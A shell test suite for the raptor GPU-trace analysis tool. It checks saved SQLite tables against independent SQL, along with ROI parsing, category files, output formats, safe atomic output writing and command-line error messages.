#!/bin/sh
# raptor on generated traces (no ../shared needed): --save tables checked
# against independent SQL over the trace, ROI forms, category files, traces,
# output formats, bad input.  Golden comparisons are in raptor-golden.sh.
. "$(cd "$(dirname "$0")" && pwd)/../lib.sh"

rpd-synth --seed 5 --api 20000 --gpus 2 -o base.rpd >/dev/null || { notok "rpd-synth"; exit 1; }
rpd-synth --seed 6 --api 8000 --gpus 2 --schema 2 -o base2.rpd >/dev/null || { notok "rpd-synth v2"; exit 1; }

# ops raptor selects: GPU work = kernels (KernelExecution, Task) and every
# copy (docs/schema.md "Op classes"), start within the api span
OPS_SQL="SELECT o.id, o.gpuId, o.start - (SELECT min(start) FROM rocpd_api) AS s,
  o.\"end\" - (SELECT min(start) FROM rocpd_api) AS e FROM rocpd_op o
  JOIN rocpd_string t ON t.id = o.opType_id
  WHERE (t.string IN ('KernelExecution','Task') OR t.string GLOB 'Copy*')
    AND o.start BETWEEN (SELECT min(start) FROM rocpd_api) AND (SELECT max(\"end\") FROM rocpd_api)"

saved() { # saved NAME SRC ARGS... -> NAME.rpd with --save results
  _n=$1; _s=$2; shift 2
  cp "$_s" "$_n.rpd"
  raptor "$_n.rpd" --save "$@" >"$_n.out" 2>"$_n.err"
}

for v in base base2; do
  saved "$v-d" "$v.rpd" || notok "$v: raptor --save" "$(cat "$v-d.err")"
  db="$v-d.rpd"
  check_eq "$v: one ext_raptor_op row per selected op" \
    "$(q "$v.rpd" "SELECT count(*) FROM ($OPS_SQL)")" "$(q "$db" "SELECT count(*) FROM ext_raptor_op")"
  # pregap / sequence / duration recomputed with window functions
  check_eq "$v: pregap, sequenceId, duration match a window-function recomputation" 0 "$(q "$db" "
    WITH o AS ($OPS_SQL), w AS (SELECT id, s, e,
      row_number() OVER (PARTITION BY gpuId ORDER BY s, id) AS seq,
      max(e) OVER (PARTITION BY gpuId ORDER BY s, id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING) AS pm
      FROM o)
    SELECT count(*) FROM w JOIN ext_raptor_op x ON x.op_id = w.id
    WHERE x.sequenceId != w.seq OR x.start_ns != w.s OR x.end_ns != w.e
       OR x.duration_ns != max(w.e - w.s, 0)
       OR x.pregap_ns IS NOT (CASE WHEN w.pm IS NULL THEN NULL ELSE max(w.s - w.pm, 0) END)")"
  # every op counts: the first two (no two earlier ops) have keys padded
  # with "(trace start)"; --reference-ops drops them (below)
  check_eq "$v: kernel rows count every op" \
    "$(q "$db" "SELECT count(*) FROM ext_raptor_op")" \
    "$(q "$db" "SELECT sum(calls) FROM ext_raptor_kernelseq WHERE kernel_1 IS NOT NULL OR kernel NOT LIKE 'GAP %'")"
  check_eq "$v: kernel rows' duration = every op's duration" \
    "$(q "$db" "SELECT sum(duration_ns) FROM ext_raptor_op")" \
    "$(q "$db" "SELECT CAST(sum(dur_sum_ns) AS INT) FROM ext_raptor_kernelseq WHERE category != '_GPU_Idle'")"
  check_eq "$v: gap rows' duration = every pregap" \
    "$(q "$db" "SELECT sum(pregap_ns) FROM ext_raptor_op")" \
    "$(q "$db" "SELECT CAST(sum(dur_sum_ns) AS INT) FROM ext_raptor_kernelseq WHERE category = '_GPU_Idle'")"
  check_eq "$v: the first two ops' keys start with (trace start)" "1|2" \
    "$(q "$db" "SELECT sum(kernel_1 = '(trace start)'), sum(kernel_2 = '(trace start)') FROM ext_raptor_kernelseq")"
  check_eq "$v: pct_total sums to 100" 100.0 "$(q "$db" "SELECT round(sum(pct_total), 6) FROM ext_raptor_kernelseq")"
  check_eq "$v: category table sums kernelseq" \
    "$(q "$db" "SELECT count(*), sum(calls) FROM ext_raptor_kernelseq")" \
    "$(q "$db" "SELECT sum(uniq_kernels), sum(total_calls) FROM ext_raptor_category")"
  check_eq "$v: GPU summary = per-GPU op sums" \
    "$(q "$db" "SELECT group_concat(g || ':' || p || ':' || d, ' ') FROM (SELECT gpuId g, sum(pregap_ns) p, sum(duration_ns) d FROM ext_raptor_op GROUP BY gpuId ORDER BY gpuId)")" \
    "$(q "$db" "SELECT group_concat(gpuId || ':' || CAST(pregap_ns AS INT) || ':' || CAST(duration_ns AS INT), ' ') FROM (SELECT * FROM ext_raptor_gpu ORDER BY gpuId)")"
  check_eq "$v: rank follows duration" 0 "$(q "$db" "SELECT count(*) FROM ext_raptor_kernelseq a JOIN ext_raptor_kernelseq b ON b.rank = a.rank + 1 WHERE b.dur_sum_ns > a.dur_sum_ns")"
  check_eq "$v: no outliers without -z" 0 "$(q "$db" "SELECT sum(outlier) FROM ext_raptor_op")"
done

# --reference-ops: the reference's rows, which leave out the first two ops
# (their kernel-sequence key needs two earlier ops)
saved base-r base.rpd --reference-ops || notok "base: raptor --save --reference-ops" "$(cat base-r.err)"
db=base-r.rpd
check_eq "--reference-ops: kernel rows count every op but the first two" \
  "$(q "$db" "SELECT count(*) - 2 FROM ext_raptor_op")" \
  "$(q "$db" "SELECT sum(calls) FROM ext_raptor_kernelseq WHERE kernel_1 IS NOT NULL OR kernel NOT LIKE 'GAP %'")"
check_eq "--reference-ops: kernel rows' duration = op durations but the first two" \
  "$(q "$db" "SELECT sum(duration_ns) FROM (SELECT duration_ns FROM ext_raptor_op ORDER BY gpuId, start_ns, op_id LIMIT -1 OFFSET 2)")" \
  "$(q "$db" "SELECT CAST(sum(dur_sum_ns) AS INT) FROM ext_raptor_kernelseq WHERE category != '_GPU_Idle'")"
check_eq "--reference-ops: gap rows' duration = pregaps of keyed ops" \
  "$(q "$db" "SELECT sum(pregap_ns) FROM (SELECT pregap_ns FROM ext_raptor_op ORDER BY gpuId, start_ns, op_id LIMIT -1 OFFSET 2)")" \
  "$(q "$db" "SELECT CAST(sum(dur_sum_ns) AS INT) FROM ext_raptor_kernelseq WHERE category = '_GPU_Idle'")"
check_eq "--reference-ops: no (trace start) key" 0 \
  "$(q "$db" "SELECT count(*) FROM ext_raptor_kernelseq WHERE kernel_1 = '(trace start)' OR kernel_2 = '(trace start)'")"

# matmul_result: its two big host-to-device copies come first; the category
# table counts them (Memory 157.5 ms) and totals the GPU work of rocpd_op
if need_shared "$TRACES/matmul_result.rpd"; then
  raptor "$TRACES/matmul_result.rpd" -c --format csv >mm.csv 2>mm.err
  check_eq "matmul_result: Memory 157.518261 ms (the first two ops included)" "157.518261" \
    "$(awk -F, '$1 == "Memory" { print $4 }' mm.csv)"
  check_eq "matmul_result: categories but idle = every op (85 calls, 183.918056 ms)" \
    "$(q "$TRACES/matmul_result.rpd" "SELECT count(*) || ' ' || printf('%.6f', sum(\"end\" - start) / 1e6) FROM rocpd_op")" \
    "$(awk -F, 'NR > 1 && $1 != "_GPU_Idle" { c += $3; d += $4 } END { printf "%d %.6f", c, d }' mm.csv)"
fi

# saving twice replaces, never duplicates; options recorded
saved again base-d.rpd -z 3 || notok "second --save"
check_eq "--save twice: rows replaced" "$(q base-d.rpd "SELECT count(*) FROM ext_raptor_op")" "$(q again.rpd "SELECT count(*) FROM ext_raptor_op")"
check_eq "--save twice: one metadata row per tag" 1 "$(q again.rpd "SELECT count(*) FROM rocpd_metadata WHERE tag = 'raptor_roi_end_ns'")"
check_eq "--save records options" "--save -z 3" "$(q again.rpd "SELECT value FROM rocpd_metadata WHERE tag = 'raptor_options'")"
check_eq "-z 3: outliers column = flagged ops" \
  "$(q again.rpd "SELECT sum(outlier) FROM ext_raptor_op")" "$(q again.rpd "SELECT sum(outliers) FROM ext_raptor_kernelseq")"
check_eq "-z 3: outliers have |z| >= 3" 0 "$(q again.rpd "SELECT count(*) FROM ext_raptor_op WHERE outlier != (abs(coalesce(duration_zscore, 0)) >= 3)")"

# without --save the trace is untouched
cp base.rpd ro.rpd
raptor ro.rpd -c -k -v -o >/dev/null 2>&1
same_file "read-only run leaves the trace byte-identical" base.rpd ro.rpd

# .gz: --save writes back a valid gzip atomically
cp base2.rpd z.rpd && gzip -f z.rpd
check "--save on .gz" raptor z.rpd.gz --save -c
gzip -dc z.rpd.gz >z_out.rpd 2>/dev/null
check_eq "--save on .gz: tables in the recompressed trace" "$(q base2-d.rpd "SELECT count(*) FROM ext_raptor_op")" "$(q z_out.rpd "SELECT count(*) FROM ext_raptor_op")"

# seq0 and --gaps
saved s0 base.rpd --kernelseq-len 0 --gaps 100
check_eq "seq0: every op is counted" "$(q s0.rpd "SELECT count(*) FROM ext_raptor_op")" \
  "$(q s0.rpd "SELECT sum(calls) FROM ext_raptor_kernelseq WHERE category != '_GPU_Idle'")"
check_eq "seq0: one row per kernel name" "$(q s0.rpd "SELECT count(DISTINCT kernel) FROM ext_raptor_op")" \
  "$(q s0.rpd "SELECT count(*) FROM ext_raptor_kernelseq WHERE category != '_GPU_Idle'")"
check_eq "seq0: no kernel_1 column" 0 "$(q s0.rpd "SELECT count(*) FROM pragma_table_info('ext_raptor_kernelseq') WHERE name = 'kernel_1'")"
check_eq "--gaps 100: two buckets" "GAP <=100us|GAP >100us" "$(q s0.rpd "SELECT group_concat(kernel, '|') FROM (SELECT kernel FROM ext_raptor_kernelseq WHERE category = '_GPU_Idle' ORDER BY kernel)")"
# several --gaps values, then the trace (argparse's nargs='+', but only integers
# are taken): sorted, repeats dropped, and recorded with their values
saved g3 base.rpd --gaps 1000 10 1000 -k
check_eq "--gaps 1000 10 1000: three buckets" "GAP 10us-1000us|GAP <=10us|GAP >1000us" \
  "$(q g3.rpd "SELECT group_concat(kernel, '|') FROM (SELECT kernel FROM ext_raptor_kernelseq WHERE category = '_GPU_Idle' ORDER BY kernel)")"
check_eq "--gaps: the options recorded with its values" "--save --gaps 1000 10 1000 -k" \
  "$(q g3.rpd "SELECT value FROM rocpd_metadata WHERE tag = 'raptor_options'")"

# latency
saved lat base.rpd -l 1000
check_eq "-l 1000: _Latency = non-idle calls x 1000 ns" \
  "$(q lat.rpd "SELECT sum(total_calls) || '|' || (sum(total_calls) * 1000) FROM ext_raptor_category WHERE category NOT IN ('_GPU_Idle', '_Latency')")" \
  "$(q lat.rpd "SELECT total_calls || '|' || CAST(total_dur_ns AS INT) FROM ext_raptor_category WHERE category = '_Latency'")"
check_eq "-l 1000: total duration unchanged" \
  "$(q base-d.rpd "SELECT CAST(sum(total_dur_ns) AS INT) FROM ext_raptor_category")" \
  "$(q lat.rpd "SELECT CAST(sum(total_dur_ns) AS INT) FROM ext_raptor_category")"

# -l bounded: never a negative total or an overflowed calls x N
for n in 9223372036854775807 4611686018427387904 -5 1e9; do
  check_rc "-l $n: usage error" 2 raptor base.rpd -l $n
  check "-l $n: says the range" grep -q "bad --category-latency-ns '$n' (ns per call, 0 .. 2^62)" "$TESTDIR/stderr"
done
# the smallest average call of a non-idle category bounds N
minavg=$(q base-d.rpd "SELECT min(CAST(total_dur_ns AS INT) / total_calls) FROM ext_raptor_category WHERE category <> '_GPU_Idle' AND total_calls > 0")
cp base.rpd lb.rpd
check_rc "-l 1000000000 (1 s per call): exit 1" 1 raptor lb.rpd -l 1000000000 --save
check_one_line "-l 1000000000: one line"
check "-l 1000000000: names the bound" grep -q "more than its .* ns of GPU time" "$TESTDIR/stderr"
same_file "-l 1000000000: trace untouched (nothing saved)" base.rpd lb.rpd
check_rc "-l at a category's smallest average call + 1: exit 1" 1 raptor base.rpd -l $((minavg + 1))
saved lm base.rpd -l $minavg
check_eq "-l at its smallest average call: saved, every total >= 0" "0|1" \
  "$(q lm.rpd "SELECT count(*) FILTER (WHERE total_dur_ns < 0) || '|' || count(*) FILTER (WHERE category = '_Latency') FROM ext_raptor_category")"

# ROI forms (span from the default run)
first=$(q base-d.rpd "SELECT value FROM rocpd_metadata WHERE tag = 'raptor_first_abs_ns'")
last=$(q base-d.rpd "SELECT value FROM rocpd_metadata WHERE tag = 'raptor_last_abs_ns'")
span=$((last - first))
roi_of() { saved roi "$@" 2>/dev/null; q roi.rpd "SELECT group_concat(value, '..') FROM (SELECT value FROM rocpd_metadata WHERE tag IN ('raptor_roi_start_ns', 'raptor_roi_end_ns') ORDER BY tag DESC)"; }
check_eq "ROI 10 .. 20 (ms)" "10000000..20000000" "$(roi_of base.rpd -s 10 -e 20)"
check_eq "ROI .01s .. 20000us" "10000000..20000000" "$(roi_of base.rpd --roi-start .01s --roi-end 20000us)"
check_eq "ROI 12345678ns .. +20.5ms" "12345678..20500000" "$(roi_of base.rpd -s 12345678ns -e +20.5ms)"
check_eq "ROI -8ms .. -5ms" "$((span - 8000000))..$((span - 5000000))" "$(roi_of base.rpd --roi-start=-8ms --roi-end=-5ms)"
check_eq "ROI 50% .. 70% (whole ns toward the start)" "$(awk -v s="$span" 'BEGIN{printf "%d..%d", s*0.5, s*0.7}')" "$(roi_of base.rpd -s 50% -e 70%)"
check_eq "ROI ops all start inside" 0 "$(q roi.rpd "SELECT count(*) FROM ext_raptor_op WHERE start_ns < $((span / 2)) OR start_ns > $((span * 7 / 10))")"
kstart=$(q base.rpd "SELECT min(o.start) - $first FROM rocpd_op o JOIN rocpd_string s ON s.id = o.description_id JOIN rocpd_string t ON t.id = o.opType_id WHERE s.string LIKE '%attn_fwd%' AND t.string = 'KernelExecution'")
check_eq "ROI from kernel regex = its first op" "$kstart..$span" "$(roi_of base.rpd --roi-start attn_fwd)"
top=$(q base-d.rpd "SELECT start_min_ns || '..' || start_max_ns FROM ext_raptor_kernelseq WHERE kernel NOT LIKE 'GAP %' OR kernel_1 IS NOT NULL ORDER BY rank LIMIT 1")
check_eq "--auto-roi-top = hottest kernel sequence" "$top" "$(roi_of base.rpd --auto-roi-top)"
trim=$(q base-d.rpd "SELECT max(a) || '..' || min(min(b), $span) FROM (SELECT min(start_ns) a, max(end_ns) b FROM ext_raptor_op GROUP BY gpuId)")
check_eq "--roi-trim = all GPUs busy" "$trim" "$(roi_of base.rpd --roi-trim)"
check_eq "--gpu-id 1 only GPU 1" "1" "$(saved g1 base.rpd --gpu-id 1; q g1.rpd "SELECT group_concat(DISTINCT gpuId) FROM ext_raptor_op")"

# asking for what is not there is an error: one line naming the GPUs present
check_rc "--gpu-id 99 (no such GPU) exits 1" 1 raptor base.rpd --gpu-id 99 -c -k -v -o --gpu-summary
check_one_line "--gpu-id 99: one line"
check_eq "--gpu-id 99: names the GPUs present" \
  "raptor: 'base.rpd' has no kernels or copies on GPU 99 (GPUs present: 0, 1)" "$(cat "$TESTDIR/stderr")"
cp base.rpd empty.rpd
check_rc "--gpu-id 99 --save exits 1" 1 raptor empty.rpd --save --gpu-id 99
same_file "--gpu-id 99 --save: trace byte-identical" base.rpd empty.rpd
check_rc "--gpu-id 99 --report exits 1" 1 raptor base.rpd --report --gpu-id 99
check_eq "--gpu-id 99 --report: names the GPUs present" \
  "raptor: 'base.rpd' has no kernels or copies on GPU 99 (GPUs present: 0, 1)" "$(cat "$TESTDIR/stderr")"
cp base.rpd noops.rpd
q noops.rpd "DELETE FROM rocpd_api_ops; DELETE FROM rocpd_op"
for mode in "" "--report"; do
  # shellcheck disable=SC2086
  check_rc "trace without ops $mode: exit 1" 1 raptor noops.rpd $mode
  check_eq "trace without ops $mode: says so" "raptor: 'noops.rpd' has no kernels or copies (GPU work)" "$(cat "$TESTDIR/stderr")"
done

# bad ROI: one line each
for bad in "2|-s 10xs" "2|-s 1.2.3ms" "1|-s 20 -e 10" "1|-s 999999" "1|-e 1e9ms" "1|-s ZZZ_no_such_kernel" "2|-s ([" ; do
  rc=${bad%%|*}; a=${bad#*|}
  # shellcheck disable=SC2086
  check_rc "bad ROI '$a' exits $rc" "$rc" raptor base.rpd $a
  check_one_line "bad ROI '$a': one line"
done

# categories
printf '{"A": [".*"], "B": ["^Cijk_"]}\n' >cats.json
saved cat base.rpd -C cats.json
check_eq "custom categories: last match wins, '.*' also takes the gap rows" "A|B" \
  "$(q cat.rpd "SELECT group_concat(category, '|') FROM (SELECT category FROM ext_raptor_category ORDER BY category)")"
check_eq "custom categories: B = Cijk_ kernels" \
  "$(q cat.rpd "SELECT count(*) FROM ext_raptor_op WHERE kernel LIKE 'Cijk\\_%' ESCAPE '\\' AND sequenceId > 2")" \
  "$(q cat.rpd "SELECT sum(calls) FROM ext_raptor_kernelseq WHERE category = 'B'")"
printf '{"GEMM": ["^Cijk_"],\n "X": ["ok", "a(b"]}\n' >badre.json
check_rc "invalid regex exits 1" 1 raptor base.rpd -C badre.json
check_one_line "invalid regex: one line"
check "invalid regex: names file, category, pattern" grep -q "badre.json.*category 'X'.*pattern 2" "$TESTDIR/stderr"
printf '{"GEMM": ["^Cijk_"],\n "X": "ok"}\n' >notlist.json
check_rc "non-list value exits 1" 1 raptor base.rpd -C notlist.json
check "non-list value: names category" grep -q "notlist.json.*category 'X'.*not a list" "$TESTDIR/stderr"
printf '{"GEMM": ["^Cijk_"],\n "X": ["a" "b"]}\n' >syntax.json
check_rc "JSON syntax error exits 1" 1 raptor base.rpd -C syntax.json
check_one_line "JSON syntax error: one line"
check "JSON syntax error: line and column" grep -q "syntax.json.*line 2, column" "$TESTDIR/stderr"
printf '["^Cijk_"]\n' >arr.json
check_rc "top-level list exits 1" 1 raptor base.rpd -C arr.json
printf '{"X": [1]}\n' >num.json
check_rc "number pattern exits 1" 1 raptor base.rpd -C num.json
check "number pattern: position" grep -q "category 'X': pattern 1 is not a string" "$TESTDIR/stderr"
check_rc "missing category file exits 1" 1 raptor base.rpd -C nonexistent.json
check_one_line "missing category file: one line"
# a search PCRE2 cannot finish is never "no match": (.|\n)* over 2,000-char
# names overflows PCRE2's default JIT stack (retried with a larger one: the
# same categories as the plain pattern), a pattern over the match limit
# fails the run in one line naming the category and the kernel
cp base.rpd long.rpd
sqlite3 long.rpd "WITH RECURSIVE c(k) AS (SELECT 1 UNION ALL SELECT k + 1 FROM c WHERE k < 40)
  INSERT INTO rocpd_string(id, string) SELECT 5000000 + k, k || '_' || replace(hex(zeroblob(1000)), '0', 'x') || CASE WHEN k % 2 THEN '_Cijk_MT' ELSE '_Dijk_MT' END FROM c;
  UPDATE rocpd_op SET description_id = 5000001 + id % 40 WHERE id % 3 = 0 AND description_id IN (SELECT id FROM rocpd_string WHERE string != '')"
printf '{"GEMM": ["Cijk"]}\n' >plain.json
printf '{"GEMM": ["(.|\\\\n)*Cijk"]}\n' >deep.json
check "deep pattern on long names: exit 0" sh -c 'raptor long.rpd -c --format csv -C deep.json >deep.csv'
raptor long.rpd -c --format csv -C plain.json >plain.csv 2>/dev/null
check "deep pattern on long names: the plain pattern's categories" cmp deep.csv plain.csv
check_eq "deep pattern on long names: GEMM holds the planted calls" 1 \
  "$(awk -F, '$1 == "GEMM" && $3 >= '"$(q long.rpd "SELECT count(*) FROM rocpd_op WHERE description_id BETWEEN 5000001 AND 5000040 AND description_id % 2 = 0")"' { print 1 }' deep.csv)"
sqlite3 long.rpd "UPDATE rocpd_string SET string = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!b' WHERE id = 5000002"
printf '{"GEMM": ["Cijk"], "Slow": ["^(a|aa)*b"]}\n' >slow.json
for mode in "-c" "--report"; do
  if [ "$mode" = -c ]; then set -- -C slow.json; else set -- --category-json slow.json; fi
  check_rc "match limit ($mode): exit 1" 1 raptor $mode long.rpd "$@"
  check_eq "match limit ($mode): one line naming category, pattern and kernel" \
    "raptor: $( [ "$mode" = --report ] && echo "'long.rpd': ")category 'Slow' pattern 1 cannot be matched against kernel 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!b': match limit exceeded on a subject of 48 bytes; simplify the pattern" \
    "$(cat "$TESTDIR/stderr")"
done
# a category file with a UTF-8 byte order mark (Windows editors) is read
printf '\357\273\277{"GEMM": ["Cijk"]}\n' >bom.json
check "category file with a BOM: exit 0" sh -c 'raptor long.rpd -c --format csv -C bom.json >bom.csv 2>/dev/null'
raptor long.rpd -c --format csv -C plain.json >plain2.csv 2>/dev/null
check "category file with a BOM: as without" cmp bom.csv plain2.csv
check "shipped categories.json = built-in" sh -c "raptor base.rpd -c --format csv >a.csv && raptor base.rpd -c --format csv -C '$(cd "$(dirname "$0")" && pwd)/../../raptor/categories.json' >b.csv && cmp a.csv b.csv"

# traces
nops=$(q base-d.rpd "SELECT count(*) FROM ext_raptor_op")
raptor base.rpd -o 2>/dev/null | sed -n '/^GPU.Seq_Id/,$p' >trace.txt
check_eq "op trace: header + one line per op" "$((nops + 1))" "$(wc -l <trace.txt)"
check_eq "op trace: header" "GPU.Seq_Id PreGap_us      Start_ms        End_ms     Dur_us Outlr? Kernel" "$(head -1 trace.txt)"
check_eq "op trace: first op has no pregap" "nan" "$(sed -n 2p trace.txt | awk '{print $2}')"
raptor base.rpd -o -W 12 --op-trace-file tr.txt >/dev/null 2>&1
check_eq "--op-trace-file -W 12: names cut to 12, padded to 30" 1 "$(awk 'NR>1{print length($0)}' tr.txt | sort -u | wc -l)"
check_eq "--op-trace-file: header + one line per op" "$((nops + 1))" "$(wc -l <tr.txt)"
raptor base.rpd -o --format csv >trace.csv
check_eq "op trace csv rows" "$((nops + 1))" "$(wc -l <trace.csv)"
r0=$(q base-d.rpd "SELECT min(rank) FROM ext_raptor_kernelseq WHERE outliers IS NOT NULL")
calls0=$(q base-d.rpd "SELECT calls + outliers FROM ext_raptor_kernelseq WHERE rank = $r0")
raptor base.rpd -i "$r0" | sed -n '/^GPU.Seq_Id/,$p' >inst.txt
check_eq "-i N: every op of the top kernel row" "$((calls0 + 1))" "$(grep -c '' inst.txt)"
check "-i N: sorted by duration" sh -c "awk 'NR>1{print \$5}' inst.txt | sort -c -g"
ngap=$(q base-d.rpd "SELECT rank FROM ext_raptor_kernelseq WHERE category = '_GPU_Idle' ORDER BY rank LIMIT 1")
check_rc "-i of a gap row exits 1" 1 raptor base.rpd -i "$ngap"
check_one_line "-i of a gap row: one line"
check_rc "-i out of range exits 1" 1 raptor base.rpd -i 100000

# output formats
raptor base.rpd -c --format csv >cat.csv
check_eq "csv: header" "Category,UniqKernels,TotalCalls,TotalDur_ms,VarSum_ms,AvgDur_us,Pct" "$(head -1 cat.csv | tr -d '\r')"
check_eq "csv: one line per category" "$(($(q base-d.rpd "SELECT count(*) FROM ext_raptor_category") + 1))" "$(wc -l <cat.csv)"
raptor base.rpd -k --format csv >ks.csv
check_eq "csv kernelseq: one line per row" "$(($(q base-d.rpd "SELECT count(*) FROM ext_raptor_kernelseq") + 1))" \
  "$(sqlite3 :memory: ".import --csv ks.csv k" "SELECT count(*) + 1 FROM k")"
if command -v python3 >/dev/null; then
  raptor base.rpd -c -v -k --gpu-summary --format json >all.json
  check_eq "json: one object with every table" "timestamps categories variability gpus kernelseq" \
    "$(python3 -c 'import json,sys; print(" ".join(json.load(open("all.json"))))')"
fi
raptor base.rpd --display-rows 3 -k >dr.txt
check_eq "--display-rows 3" 3 "$(sed -n '/^Top Kernels:/,$p' dr.txt | grep -c '%  ')"
check "-x writes an xlsx" sh -c "cp base.rpd xl.rpd && raptor xl.rpd -x --write-xls-op-trace >/dev/null 2>&1 && head -c 2 xl.xlsx | grep -q PK"
check_eq "-x alone prints no tables" "" "$(cp base.rpd xl2.rpd && raptor xl2.rpd -x 2>/dev/null | grep -c Categories | grep -v '^0$')"

# named outputs: never the trace itself, a device or a directory; written
# to a temp file next to OUT and renamed (a kill or a failure leaves the
# previous OUT; no leftovers); -x names its workbook FILE.xlsx, so a trace
# called t.xlsx must not be overwritten by its own workbook
mkdir outs
cp base.rpd outs/in.rpd
check_rc "--op-trace-file is the input: exit 1" 1 raptor outs/in.rpd -o --op-trace-file outs/in.rpd
check_one_line "--op-trace-file is the input: one line"
check "--op-trace-file is the input: says so" grep -q "cannot write 'outs/in.rpd': is the input file" "$TESTDIR/stderr"
same_file "--op-trace-file is the input: trace byte-identical" base.rpd outs/in.rpd
ln -s in.rpd outs/lnin
check_rc "--op-trace-file is a symlink to the input: exit 1" 1 raptor outs/in.rpd -o --op-trace-file outs/lnin
same_file "--op-trace-file is a symlink to the input: trace byte-identical" base.rpd outs/in.rpd
rm -f outs/lnin
cp base.rpd outs/t.xlsx
check_rc "-x on a trace named t.xlsx: exit 1" 1 raptor outs/t.xlsx -x
check_one_line "-x on a trace named t.xlsx: one line"
check "-x on a trace named t.xlsx: says so" grep -q "cannot write 'outs/t.xlsx': is the input file" "$TESTDIR/stderr"
same_file "-x on a trace named t.xlsx: trace byte-identical" base.rpd outs/t.xlsx
rm -f outs/t.xlsx
check_rc "--op-trace-file is a directory: exit 1" 1 raptor base.rpd -o --op-trace-file outs
check_one_line "--op-trace-file is a directory: one line"
if mknod outs/null c 1 3 2>/dev/null; then
  check_rc "--op-trace-file is a device: exit 1" 1 raptor base.rpd -o --op-trace-file outs/null
  check_one_line "--op-trace-file is a device: one line"
  check_eq "--op-trace-file is a device: still a character device" yes "$([ -c outs/null ] && echo yes || echo no)"
  rm -f outs/null
  cp base.rpd outs/dev.rpd; mknod outs/dev.xlsx c 1 3
  check_rc "-x onto a device: exit 1" 1 raptor outs/dev.rpd -x
  check_eq "-x onto a device: still a character device" yes "$([ -c outs/dev.xlsx ] && echo yes || echo no)"
  rm -f outs/dev.rpd outs/dev.xlsx
else
  skip "named outputs onto a device" "mknod needs root"
fi
# atomic: a hard link to the previous OUT keeps the previous content (an
# in-place rewrite would change both names)
echo previous >outs/tr.txt; ln outs/tr.txt outs/tr.old
check_rc "--op-trace-file over an existing file" 0 raptor base.rpd -o -W 12 --op-trace-file outs/tr.txt
same_file "--op-trace-file: the same trace as before" tr.txt outs/tr.txt
check_eq "--op-trace-file: replaced by rename, not rewritten in place" previous "$(cat outs/tr.old)"
echo old >outs/target; ln -s target outs/link
check_rc "--op-trace-file through a symlink" 0 raptor base.rpd -o -W 12 --op-trace-file outs/link
check_eq "--op-trace-file through a symlink: the link is kept" yes "$([ -L outs/link ] && echo yes || echo no)"
same_file "--op-trace-file through a symlink: its target is the trace" tr.txt outs/target
ln255=$(printf '%0251d' 0).out
check_rc "--op-trace-file with a 255-byte name" 0 raptor base.rpd -o -W 12 --op-trace-file "outs/$ln255"
same_file "--op-trace-file with a 255-byte name: the trace" tr.txt "outs/$ln255"
check_eq "named outputs: no temp file left" "$ln255 in.rpd link target tr.old tr.txt" \
  "$(ls -A outs | LC_ALL=C sort | tr '\n' ' ' | sed 's/ $//')"
# killed while writing: OUT is the previous file or the complete one
for t in 0.05 0.15 0.3; do
  echo previous >outs/k.txt
  timeout -s KILL "$t" raptor base.rpd -o -W 12 --op-trace-file outs/k.txt >/dev/null 2>&1
  if [ "$(cat outs/k.txt)" = previous ] || cmp -s tr.txt outs/k.txt; then ok "--op-trace-file killed after ${t}s: previous or complete"
  else notok "--op-trace-file killed after ${t}s: previous or complete" "$(head -c 60 outs/k.txt)"; fi
  rm -f outs/.k.txt.rpdtools-*
done
# results on stdout that cannot be written: exit 1, one line
if [ -c /dev/full ]; then
  check_rc "stdout full: exit 1" 1 sh -c 'raptor base.rpd >/dev/full'
  check_one_line "stdout full: one line"
  check_rc "stdout full, -o: exit 1" 1 sh -c 'raptor base.rpd -o --format csv >/dev/full'
fi

# CLI
check_rc "--help exits 0" 0 raptor --help
check "--help prints usage" grep -q "usage: raptor" "$TESTDIR/stdout"
check_rc "unknown option exits 2" 2 raptor base.rpd --bogus
check "unknown option: names it" grep -q "^raptor: unknown option '--bogus'" "$TESTDIR/stderr"
check_rc "bad --format exits 2" 2 raptor base.rpd --format xml
check_rc "bad -z exits 2" 2 raptor base.rpd -z abc
check_rc "missing FILE exits 2" 2 raptor -c
check_rc "prefix option --auto-roi and clustered -ck" 0 raptor base.rpd --auto-roi -ck -z3
# argparse's spellings through common/opt.h: prefixes, clusters, messages
check_eq "-cvz3 = -c -v -z 3" "$(raptor base.rpd -c -v -z 3 2>&1 | md5sum)" "$(raptor base.rpd -cvz3 2>&1 | md5sum)"
check_eq "--categori --var --prek 1 = full names" "$(raptor base.rpd --categorize --variability --prekernel-seq 1 2>&1 | md5sum)" \
  "$(raptor base.rpd --categori --var --prek 1 2>&1 | md5sum)"
check_rc "ambiguous prefix exits 2" 2 raptor base.rpd --ke
check_eq "ambiguous prefix: one line, the hint" "raptor: ambiguous option '--ke'|Try 'raptor --help'." "$(paste -sd'|' "$TESTDIR/stderr")"
check_rc "unknown letter of a cluster exits 2" 2 raptor base.rpd -cw
check_eq "unknown letter of a cluster: named" "raptor: unknown option '-w'" "$(head -1 "$TESTDIR/stderr")"
check_rc "--gaps without a number exits 2" 2 raptor base.rpd --gaps -c
check_eq "--gaps without a number: the message" "raptor: option '--gaps' needs at least one value" "$(head -1 "$TESTDIR/stderr")"
check_rc "abbreviated value option without its value exits 2" 2 raptor base.rpd --prekernel
check_eq "the message names it in full" "raptor: option '--prekernel-seq' needs a value" "$(head -1 "$TESTDIR/stderr")"
# the modes as subcommands: the same output as their flags
raptor base.rpd --report --table kernel_summary --format csv >sub_flag.csv 2>/dev/null
check_rc "raptor report FILE" 0 raptor report base.rpd --table kernel_summary --format csv
check "raptor report = raptor FILE --report" cmp -s "$TESTDIR/stdout" sub_flag.csv
raptor base.rpd --by-rank --format json >sub_flag.json 2>/dev/null
check_rc "raptor by-rank FILE" 0 raptor by-rank base.rpd --format json
check "raptor by-rank = raptor FILE --by-rank" cmp -s "$TESTDIR/stdout" sub_flag.json
raptor base.rpd --format kernel-stats >sub_flag.stats 2>/dev/null
check_rc "raptor stats FILE --format kernel-stats" 0 raptor stats base.rpd --format kernel-stats
check "raptor stats = raptor FILE --format kernel-stats" cmp -s "$TESTDIR/stdout" sub_flag.stats
check "stats output not empty" grep -q '^"Name","Calls"' sub_flag.stats
check_rc "raptor report --help" 0 raptor report --help
check "raptor report --help: the report's usage" grep -q "usage: raptor FILE --report" "$TESTDIR/stdout"
check_rc "raptor stats without --format: exit 2" 2 raptor stats base.rpd
